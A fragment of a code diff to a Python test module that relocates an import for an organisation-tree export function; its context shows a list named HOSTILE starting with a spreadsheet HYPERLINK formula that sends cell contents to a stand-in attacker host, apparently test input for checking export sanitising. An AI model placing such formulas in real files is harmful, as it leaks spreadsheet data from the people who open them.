@@ -17,9 +17,9 @@ from jinguo.imports.exports import write_roster
 from jinguo.imports.rosters import HOUSEHOLD_COLUMNS
 from jinguo.imports.sheet import Layout, write_error_workbook
 from jinguo.orgs.codes import clean_text
-from jinguo.orgs.excel import org_tree_export
 from jinguo.orgs.models import OrgUnit
 from jinguo.orgs.tests.factories import OrgUnitFactory
+from jinguo.orgs.tree_export import org_tree_export
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A2,"详情")',
